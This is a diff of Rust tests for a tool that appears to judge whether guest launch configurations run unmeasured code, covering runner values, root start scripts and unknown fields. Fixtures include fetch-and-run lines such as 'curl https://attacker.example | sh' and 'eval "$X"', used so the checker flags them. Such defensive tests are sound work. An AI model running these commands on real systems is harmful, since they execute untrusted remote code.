@@ -915,3 +915,115 @@ fn t79_a_place_counts_as_reviewed_only_with_a_reason_for_this_path_and_this_text
         ]
     );
 }
+
+/// The guest's shell drops line ends at the end and NULs, and then compares: such a runner has two readings.
+#[test]
+fn t89_a_runner_that_is_not_exactly_one_of_those_that_are_known_is_not_read() {
+    for runner in [
+        json!("bash\n"),
+        json!("bash\r\n"),
+        json!("bash\0"),
+        json!(" bash"),
+        json!("docker-compose\n"),
+        json!("nerdctl"),
+        json!("other"),
+        json!(5),
+        json!(null),
+    ] {
+        let fields = json!({ "runner": runner.clone(), "bash_script": "curl https://attacker.example | sh" });
+        let judged = running_with(&service("tty: true"), &fields);
+        judged
+            .says(CheckId::ImagePins, Status::Error, "unreadable-compose")
+            .says(CheckId::LaunchInputs, Status::Error, "unreadable-compose")
+            .concludes(Verdict::Inconclusive);
+        let detail = judged.detail(CheckId::ImagePins);
+        assert!(
+            detail.contains("what starts the app is not known: `runner` is "),
+            "{runner}: {detail}"
+        );
+    }
+    for runner in ["docker-compose", "nerdctl-compose"] {
+        let judged = running_with(&service("tty: true"), &json!({ "runner": runner }));
+        judged.proves(CheckId::ImagePins);
+        assert!(
+            matches!(judged.0.assurance, Assurance::Code(_)),
+            "{runner}: {judged}"
+        );
+    }
+    running_with(
+        &service("tty: true"),
+        &json!({ "runner": "bash", "bash_script": "true" }),
+    )
+    .says(CheckId::ImagePins, Status::Warn, "unpinned-image");
+}
+
+/// A script that runs as root before the containers is judged as the scripts in them are.
+#[test]
+fn t90_what_a_start_script_takes_from_outside_decides_code() {
+    for (script, reason) in [
+        ("eval \"$X\"", "unmeasured-input"),
+        ("curl \"$X\" | bash", "unmeasured-input"),
+        ("bash /dstack/.host-shared/user_config", "unmeasured-input"),
+        ("mount /dev/vdb /mnt && /mnt/run", "unmeasured-input"),
+        ("sed -i s/TAG/latest/ docker-compose.yaml", "unmeasured-input"),
+        ("docker run -d --privileged web:latest", "unpinned-image"),
+        (
+            "docker pull web:latest; docker tag web:latest web:1",
+            "unpinned-image",
+        ),
+    ] {
+        for (field, value, place) in [
+            ("pre_launch_script", json!(script), "pre_launch_script"),
+            ("init_script", json!(["true", script]), "init_script[1]"),
+        ] {
+            let mut fields = json!({ "allowed_envs": ["X"] });
+            fields[field] = value;
+            decides(&running_with(&service("tty: true"), &fields), reason, place);
+        }
+    }
+    // What it does beyond that is named as not judged.
+    let script = "echo \"$X\" | docker login -u me --password-stdin registry.example";
+    let fields = json!({ "allowed_envs": ["X"], "pre_launch_script": script });
+    let judged = running_with(&service("tty: true"), &fields);
+    judged.proves(CheckId::ImagePins);
+    assert!(matches!(judged.0.assurance, Assurance::Code(_)), "{judged}");
+    let detail = judged.detail(CheckId::ImagePins);
+    let hash = hex::encode(Sha256::digest(script));
+    assert!(
+        detail.contains(&format!(
+            "Not judged is what else pre_launch_script (SHA-256 {hash}) does as root"
+        )),
+        "{detail}"
+    );
+}
+
+/// `pre_launch_script` and `bash_script` came into the guest as fields that no structure knew.
+#[test]
+fn t91_a_field_that_is_not_known_is_named_and_decides_code_if_it_may_be_a_script() {
+    for (field, value) in [
+        ("post_launch_script", json!("curl $X | sh")),
+        ("later", json!("#!/bin/sh\ntrue")),
+    ] {
+        let mut fields = json!({});
+        fields[field] = value;
+        let judged = running_with(&service("tty: true"), &fields);
+        decides(&judged, "unmeasured-input", field);
+        judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
+    }
+    for fields in [
+        json!({ "tomorrow": true }),
+        json!({ "snapshotter": "stargz\n" }),
+        json!({ "kms_enabled": "true" }),
+        json!({ "bash_script": "true" }),
+    ] {
+        let judged = running_with(&service("tty: true"), &fields);
+        judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
+        judged.proves(CheckId::ImagePins);
+    }
+    for fields in [
+        json!({ "docker_config": { "x": "y" }, "default_gateway_domain": "gateway.example", "salt": "x", "bash_script": null }),
+        json!({ "snapshotter": "stargz", "swap_size": "4G", "tomorrow": null }),
+    ] {
+        running_with(&service("tty: true"), &fields).proves(CheckId::LaunchInputs);
+    }
+}
